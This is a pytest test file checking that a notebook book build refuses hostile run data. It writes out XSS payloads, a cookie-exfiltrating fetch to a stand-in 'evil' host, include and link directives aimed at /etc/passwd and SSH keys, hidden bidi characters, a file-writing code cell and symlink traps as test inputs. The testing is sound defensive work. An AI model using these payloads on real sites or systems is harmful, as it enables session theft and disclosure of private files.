"""Round 4 of the abuse tests, the book's side: what a run directory can do to the book build and to its pages.

A run directory travels between hosts, so its result strings, its notebooks and its ``book`` folder are
data: none of them may open markup in a page, execute anything, or reach a file outside the run."""
import json
from pathlib import Path

import nbformat
import pandas as pd
import pytest
from helpers import markup, one_line
from markdown_it import MarkdownIt

from datajourney.cli import main
from datajourney.core import phrasing, results
from datajourney.core.facts import Advice, Fact, Facts
from datajourney.core.params import ParameterError
from datajourney.core.phrasing import Action, Opening

HOSTILE = "H200\n\n<script>alert(1)</script>\n\n```{raw} html\n<b>x</b>\n```\n"
HIDDEN = "\u202egnp.exe\u200b\u2066\ufeff\u200d\u2060"


# --------------------------------------------------------------------------- result strings in Markdown
def test_a_gpu_name_with_newlines_is_one_line_of_text():
    from datajourney.book import opening

    res = results.Result(chapter="06_pcie", run_id="r", parameters={},
                         fingerprint={"gpu": {"available": True, "count": 1, "name": HOSTILE}})
    md = f"**{opening.heading(res, False)}**\n\nnext paragraph"
    assert markup(md) == [] and "\n" not in opening.heading(res, False)


def test_an_advice_snippet_cannot_end_its_code_fence():
    from datajourney.book import opening

    snippet = "x = 1\n````\n\n<script>alert(1)</script>\n\n```python"

    class Page:
        @staticmethod
        def opening(facts):
            return Opening([], [Action("do this", snippet)])

    res = results.Result(chapter="07_full_picture", run_id="r", parameters={}, fingerprint={})
    res.facts = Facts("07_full_picture", advice=[Advice("k", "num_workers", 1, "w", snippet=snippet)])
    md = opening.markdown(Page, res)
    fences = [t for t in MarkdownIt("commonmark").parse(md) if t.type == "fence"]
    assert markup(md) == ["<details><summary>The code</summary>\n", "</details>\n"], md
    assert len(fences) == 1 and "<script>" in fences[0].content  # shown as code, whole


def test_chapter_12_words_its_result_strings_as_text():
    from datajourney.chapters.c12_conclusion import page as c12

    x = "\n\n<script>alert(1)</script>\n\n"
    facts = Facts("12_conclusion", data={"tokens.weakest": {"key": "gpu", "chapter": "12_conclusion", "next_key": x},
                                         "image.weakest": {"key": "cpu", "chapter": "07_full_picture"},
                                         "image.fed": {"binding": x},
                                         "image_workload": {"batch_size": x, "model": "m", "device": "cpu"}})
    facts.add(Fact("tokens.margin", 2.0, "×", quantity="rate"), Fact("image.gpus_fed", x, quantity="count"))
    md = "* " + c12._weakest_sentence(facts, "tokens") + "\n* " + c12._action(facts, "image", None).text
    md += "\n* " + c12.workload_name(facts, "image")
    assert markup(md) == [], md


def test_characters_that_hide_or_reorder_text_are_dropped_everywhere():
    from datajourney.book import report

    for shown in (phrasing.text(HIDDEN), phrasing.code(HIDDEN), report.escape(HIDDEN),
                  report.table_html(pd.DataFrame({HIDDEN: [HIDDEN]}), caption=HIDDEN)):
        assert "gnp.exe" in shown and not any(c in shown for c in "\u202e\u200b\u2066\ufeff\u200d\u2060"), shown


# --------------------------------------------------------------------------- chart scripts
def test_a_chart_script_state_cannot_end_its_script_element():
    from datajourney.core import charts

    template = charts.script_template("var s = %s; draw(s);")
    post = charts.script(template, {"name": "</script><script>alert(1)</script>"})
    assert "</script>" not in post and json.loads(post[len("var s = "):-len("; draw(s);")])["name"].startswith("</")


def test_a_chart_from_elsewhere_runs_only_a_registered_script():
    from datajourney.core import charts

    charts.script_template("var t = %s; go(t);")
    fig = {"data": [], "layout": {"meta": {"post_script": "fetch('https://evil/' + document.cookie)"}}}
    assert "evil" not in charts.html(fig, trusted_script=False)
    fig["layout"]["meta"]["post_script"] = 'var t = {"a": "</script>"}; go(t);'
    page = charts.html(fig, trusted_script=False)
    assert "go(t)" in page and "</script>\"" not in page
    with pytest.raises(ValueError):
        charts.script("not registered %s", {})


# --------------------------------------------------------------------------- outputs of a run's notebook
def _display(data: dict) -> dict:
    return nbformat.v4.new_output("display_data", data=data)


@pytest.mark.parametrize("data", [
    {"text/html": "<script>alert(1)</script>"},
    {"text/html": "<div><img src=x onerror=alert(1)></div>"},
    {"text/html": '<div style="background: url(https://evil/x)">t</div>'},
    {"text/markdown": "ok\n\n<script>alert(1)</script>\n"},
    {"text/markdown": "```{raw} html\n<b>x</b>\n```\n"},
    {"text/markdown": ":::{include} /etc/passwd\n:::\n"},
    {"text/markdown": "see {download}`/etc/passwd`"},
    {"text/markdown": "[key](/root/.ssh/id_rsa)"},
    {"text/markdown": "![x](/etc/passwd.png)"},
    {"text/html": "<table><tr><td>1</td></tr></table>", "application/javascript": "alert(1)"},
    {"text/plain": "x", "image/svg+xml": "<svg onload=alert(1)>"},
], ids=["script", "img-onerror", "css-url", "md-script", "md-raw-directive", "md-include", "md-download-role",
        "md-local-link", "md-image", "javascript", "svg"])
def test_a_run_output_with_foreign_markup_is_left_out(data):
    from datajourney.book import foreign

    kept = foreign.output(_display(data))
    assert json.dumps(kept).count("alert") == 0 and "/etc/passwd" not in json.dumps(kept), kept
    assert set(kept["data"]) <= {"text/plain", "text/html", "text/markdown"}


def test_the_outputs_the_package_writes_are_kept():
    """The book's own outputs of a run (tables, folded Markdown, charts) come through as they were."""
    from datajourney.book import foreign, report
    from datajourney.core import charts

    table = report.table_html(pd.DataFrame({"a": [1.5], "b": ["x<y"]}), "caption")
    md = ("**On this machine**\n\n* a [chapter 3](03_dataloader.ipynb) finding <small>(published: 2×)</small>\n\n"
          "<details>\n<summary>How we know</summary>\n\n| a | b |\n|---|---|\n| 1 | `{x}` |\n\n</details>")
    for data in ({"text/html": table, "text/plain": "t"}, {"text/markdown": md, "text/plain": "m"}):
        assert foreign.output(_display(data))["data"] == data
    import plotly.graph_objects as go

    fig = go.Figure(go.Bar(x=["a"], y=[1])).to_plotly_json()
    fig["layout"]["meta"] = {"post_script": charts.script(charts.script_template("var q = %s;"), {"v": 1})}
    kept = foreign.output(_display({"application/vnd.plotly.v1+json": fig, "text/html": "<script>evil()</script>"}))
    assert "Plotly.newPlot" in kept["data"]["text/html"] and 'var q = {"v": 1};' in kept["data"]["text/html"]
    assert "evil" not in kept["data"]["text/html"]


# --------------------------------------------------------------------------- a run's notebooks in its book
CH3 = "03_dataloader"




def _run_with(tmp_path, nb, name=CH3):
    """A run directory holding one executed notebook ``nb`` (and a run record naming no chapter)."""
    run = tmp_path / "r"
    (run / "notebooks").mkdir(parents=True)
    (run / "run.json").write_text(json.dumps({"run_id": "r", "status": "ok", "chapters": []}))
    nbformat.write(nb, run / "notebooks" / f"{name}.ipynb")
    return run


def _committed(name=CH3):
    from datajourney.core.paths import REPO_ROOT

    return nbformat.read(REPO_ROOT / "notebooks" / f"{name}.ipynb", as_version=4)


def _planted(nb):
    """``nb`` asking myst-nb to execute it, with a script among its outputs and in its cell metadata."""
    nb.metadata["mystnb"] = {"execution_mode": "force"}
    cell = next(c for c in nb.cells if c.cell_type == "code" and c.outputs)
    cell.metadata["mystnb"] = {"code_prompt_show": "<script>alert(2)</script>"}
    cell.outputs.append(_display({"text/html": "<script>alert(1)</script>", "text/plain": "x"}))
    return nb


def test_a_run_notebook_with_other_cells_is_refused_before_the_book_is_built(tmp_path, monkeypatch, capsys):
    from datajourney.book import sphinx_ext

    monkeypatch.setattr(sphinx_ext, "jupyter_book", lambda *a, **k: pytest.fail("the book was built"))
    mark = tmp_path / "pwned"
    nb = _committed()
    nb.metadata["mystnb"] = {"execution_mode": "force"}
    nb.cells = [nb.cells[0], nbformat.v4.new_code_cell(f"open({str(mark)!r}, 'w').write('x')")]
    run = _run_with(tmp_path, nb)
    assert main(["book", "--run", str(run)]) == 2
    one_line(capsys.readouterr().err, "--run", f"{CH3}.ipynb", "committed")
    with pytest.raises(ParameterError):
        sphinx_ext.stage(run)
    assert not mark.exists() and not (run / "book").exists()


def test_the_staged_book_executes_no_run_notebook_and_shows_its_outputs_as_data(tmp_path):
    import yaml

    from datajourney.book import sphinx_ext

    run = _run_with(tmp_path, _planted(_committed()))
    dest = sphinx_ext.stage(run)
    staged = nbformat.read(dest / "notebooks" / f"{CH3}.ipynb", as_version=4)
    assert staged.metadata["mystnb"] == {"execution_mode": "off"}
    assert "alert" not in json.dumps(staged), "a script of the run came into the book"
    committed = _committed()
    assert [c.source for c in staged.cells] == [c.source for c in committed.cells]
    assert [c.metadata for c in staged.cells] == [c.metadata for c in committed.cells]
    charts = sum("Plotly.newPlot" in o.get("data", {}).get("text/html", "") for c in staged.cells
                 for o in c.get("outputs", []))
    assert charts == sum(1 for c in committed.cells for o in c.get("outputs", [])
                         if "application/vnd.plotly.v1+json" in o.get("data", {})) > 0
    conf = yaml.safe_load((dest / "_config.yml").read_text())
    assert conf["execute"] == {"execute_notebooks": "off", "exclude_patterns": ["notebooks/*"]}


def test_the_staged_title_page_of_a_run_is_stored_not_executed(tmp_path):
    from datajourney.book import sphinx_ext
    from datajourney.core.paths import REPO_ROOT

    run = _run_with(tmp_path, _committed())
    (run / "12_conclusion.json").write_bytes((REPO_ROOT / "data/reference/h200/12_conclusion.json").read_bytes())
    index = nbformat.read(sphinx_ext.stage(run) / "book" / "index.ipynb", as_version=4)
    assert index.metadata["mystnb"] == {"execution_mode": "off"}
    shown = [o["data"]["text/markdown"] for c in index.cells if c.cell_type == "code" for o in c.outputs]
    assert shown and shown[0].startswith("**Your run, ")


@pytest.mark.parametrize("where", ["book", "book/_build", "book/notebooks/03_dataloader.ipynb"])
def test_a_link_in_a_runs_book_folder_is_refused_and_never_followed(tmp_path, capsys, where):

    run, victim = _run_with(tmp_path, _committed()), tmp_path / "victim"
    (victim / "notebooks").mkdir(parents=True)
    (victim / "notebooks" / "mine.ipynb").write_text("precious")
    (victim / "_config.yml").write_text("mine")
    link = run / where
    if where != "book":
        (run / "book" / "notebooks").mkdir(parents=True)
    link.symlink_to(victim)
    before = {p: p.read_bytes() for p in victim.rglob("*") if p.is_file()}
    assert main(["book", "--run", str(run)]) == 2
    one_line(capsys.readouterr().err, "--run", str(link), "symbolic link")
    assert {p: p.read_bytes() for p in victim.rglob("*") if p.is_file()} == before
    assert link.is_symlink()


def test_book_of_a_run_still_writing_says_it_is_still_running(tmp_path, monkeypatch, capsys):
    import os
    import socket

    from datajourney.book import sphinx_ext

    monkeypatch.setattr(sphinx_ext, "build", lambda *a, **k: tmp_path / "index.html")
    run = _run_with(tmp_path, _committed())
    (run / "run.json").write_text(json.dumps({"run_id": "r", "status": "running", "host": socket.gethostname(),
                                              "pid": os.getpid(), "chapters": []}))
    assert main(["book", "--run", str(run)]) == 0
    err = capsys.readouterr().err
    assert "is still running" in err and "ended with status" not in err, err


# --------------------------------------------------------------------------- promote takes outputs, never metadata
def test_promote_takes_no_notebook_metadata_or_markup_from_a_run(tmp_path, monkeypatch):
    from datajourney.book import registry, runner

    repo = tmp_path / "repo"
    (repo / "notebooks").mkdir(parents=True)
    monkeypatch.setattr(results, "REFERENCE_DIR", repo / "data" / "reference")
    monkeypatch.setattr(registry, "NOTEBOOK_DIR", repo / "notebooks")
    committed = _committed()
    nbformat.write(committed, repo / "notebooks" / f"{CH3}.ipynb")
    run = _run_with(tmp_path, _planted(_committed()))
    res = results.Result(chapter=CH3, run_id="r", parameters={}, fingerprint={})
    res.add("t", pd.DataFrame({"a": [1.0]}))
    res.save(run)
    (run / "run.json").write_text(json.dumps({"run_id": "r", "status": "ok", "chapters": [
        {"chapter": CH3, "status": "ok", "parameters": {}}]}))
    runner.promote(run, "h999")
    after = nbformat.read(repo / "notebooks" / f"{CH3}.ipynb", as_version=4)
    assert "mystnb" not in after.metadata and "alert" not in json.dumps(after)
    assert [c.metadata for c in after.cells] == [c.metadata for c in committed.cells]
    assert after.metadata["kernelspec"] == committed.metadata["kernelspec"]


# --------------------------------------------------------------------------- result files: size and depth
def test_a_result_file_over_the_size_limit_is_refused_naming_it(tmp_path, monkeypatch):
    path = tmp_path / f"{CH3}.json"
    path.write_text(json.dumps({"schema": results.SCHEMA, "pad": "x" * 2048}))
    monkeypatch.setattr(results, "MAX_BYTES", 1024)
    with pytest.raises(results.ResultError, match=f"{path}.*limit of"):
        results.read(path)
    assert results.MAX_BYTES == 1024 and "64 MiB" in (Path(results.__file__).parents[2] / "README.md").read_text()


def test_a_deeply_nested_result_is_a_result_error_naming_the_file(tmp_path, capsys):
    path = tmp_path / f"{CH3}.json"
    deep = "[" * 100_000 + "]" * 100_000
    path.write_text(json.dumps({"schema": results.SCHEMA, "deep": 0}).replace("0}", deep + "}"))
    with pytest.raises(results.ResultError, match=str(path)):
        results.read(path)


# --------------------------------------------------------------------------- the built book of a reader's run
@pytest.mark.book
def test_the_built_book_of_a_run_opens_with_your_run_and_shows_no_plantedmarkup(tmp_path):
    """Built for real (Jupyter Book, warnings as errors): the title page opens with the run's own answer (a stored
    output, not executed again without the run), and a planted notebook's script never reaches a page."""
    pytest.importorskip("jupyter_book")
    import re

    from datajourney.book import sphinx_ext
    from datajourney.core.paths import REPO_ROOT

    run = _run_with(tmp_path, _planted(_committed()))
    (run / "12_conclusion.json").write_bytes((REPO_ROOT / "data/reference/h200/12_conclusion.json").read_bytes())
    html = sphinx_ext.build(run).parent
    title = (html / "book" / "index.html").read_text()
    article = re.sub(r"<[^>]+>", " ", title[title.index('<article'):])
    assert "Your run" in article and article.index("Your run") < article.index("The reference host"), article[:2000]
    page = (html / "notebooks" / f"{CH3}.html").read_text()
    assert "alert(" not in page and "Plotly.newPlot" in page


def test_the_notebook_of_a_failed_run_is_shown_with_its_error_without_papermills_banner(tmp_path):
    from datajourney.book import sphinx_ext

    nb = _committed()
    k = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code" and i > 2)
    nb.cells[k].outputs = [nbformat.v4.new_output("error", ename="OSError", evalue="disk gone", traceback=["t"])]
    tag = {"tags": ["papermill-error-cell-tag"]}
    nb.cells.insert(k, nbformat.v4.new_markdown_cell('<span id="papermill-error-cell">here</span>', metadata=tag))
    nb.cells.insert(0, nbformat.v4.new_markdown_cell('<span style="color:red">An Exception</span>', metadata=tag))
    staged = nbformat.read(sphinx_ext.stage(_run_with(tmp_path, nb)) / "notebooks" / f"{CH3}.ipynb", as_version=4)
    assert [c.source for c in staged.cells] == [c.source for c in _committed().cells]
    assert staged.cells[k].outputs[0]["evalue"] == "disk gone"
